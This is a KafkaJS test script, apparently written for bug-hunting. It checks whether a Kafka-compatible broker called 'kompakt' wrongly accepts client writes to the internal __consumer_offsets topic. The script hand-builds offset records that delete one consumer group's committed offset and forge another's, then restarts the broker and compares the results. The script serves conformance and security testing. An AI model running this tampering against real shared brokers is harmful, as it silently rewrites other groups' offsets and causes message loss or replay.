// A plain KafkaJS producer appends a crafted offset-commit tombstone (and a forged value) to __consumer_offsets.
// Kafka refuses client appends to internal topics (ReplicaManager.appendToLocalLog: INVALID_TOPIC_EXCEPTION
// "Cannot append to internal topic"); if kompakt accepts them, another group's committed offsets change at the next restart.
const { kafka, run, uniq, j, err, sleep } = require('./common')
const { execSync } = require('child_process')
const javaHash = s => { let h = 0; for (let i = 0; i < s.length; i++) h = (Math.imul(31, h) + s.charCodeAt(i)) | 0; return h }
const str = s => { const b = Buffer.from(s); const l = Buffer.alloc(2); l.writeInt16BE(b.length); return Buffer.concat([l, b]) }
run(async () => {
  const admin = kafka.admin(); await admin.connect()
  const t = uniq('victim'), g1 = uniq('vg1'), g2 = uniq('vg2')
  await admin.createTopics({ waitForLeaders: true, topics: [{ topic: t, numPartitions: 1 }] })
  await admin.setOffsets({ groupId: g1, topic: t, partitions: [{ partition: 0, offset: '7' }] })
  await admin.setOffsets({ groupId: g2, topic: t, partitions: [{ partition: 0, offset: '7' }] })
  const n = (await admin.fetchTopicMetadata({ topics: ['__consumer_offsets'] })).topics[0].partitions.length
  const key = g => { const v = Buffer.alloc(2); v.writeInt16BE(1); const p = Buffer.alloc(4); p.writeInt32BE(0); return Buffer.concat([v, str(g), str(t), p]) }
  // value v1: version, offset, metadata, commit ts, expire ts
  const val = off => { const v = Buffer.alloc(2); v.writeInt16BE(1); const o = Buffer.alloc(8); o.writeBigInt64BE(BigInt(off)); const ts = Buffer.alloc(8); ts.writeBigInt64BE(BigInt(Date.now())); const ex = Buffer.alloc(8); ex.writeBigInt64BE(BigInt(Date.now() + 86400000)); return Buffer.concat([v, o, str(''), ts, ex]) }
  const part = g => { const h = javaHash(g); return (h === -2147483648 ? 0 : Math.abs(h)) % n }
  const p = kafka.producer({ retry: { retries: 0 } }); await p.connect()
  try { console.log('tombstone for g1 ->', j(await p.send({ topic: '__consumer_offsets', messages: [{ key: key(g1), value: null, partition: part(g1) }] }))) } catch (e) { console.log('tombstone for g1 => ERROR', err(e)) }
  try { console.log('forged offset 123456 for g2 ->', j(await p.send({ topic: '__consumer_offsets', messages: [{ key: key(g2), value: val(123456), partition: part(g2) }] }))) } catch (e) { console.log('forged g2 => ERROR', err(e)) }
  console.log('before restart g1', j((await admin.fetchOffsets({ groupId: g1, topics: [t] }))[0].partitions), 'g2', j((await admin.fetchOffsets({ groupId: g2, topics: [t] }))[0].partitions))
  if (process.env.KOMPAKT_RESTART !== '0') {
    console.log(execSync(process.env.KOMPAKT_STOP_CMD || '/tmp/hunt/stop.sh TERM').toString().trim())
    console.log(execSync(process.env.KOMPAKT_START_CMD || '/tmp/hunt/start.sh local').toString().trim())
    await sleep(1000)
  }
  console.log('after restart  g1', j((await admin.fetchOffsets({ groupId: g1, topics: [t] }))[0].partitions), 'g2', j((await admin.fetchOffsets({ groupId: g2, topics: [t] }))[0].partitions), '(Kafka: both stay 7)')
  await p.disconnect(); await admin.disconnect()
})
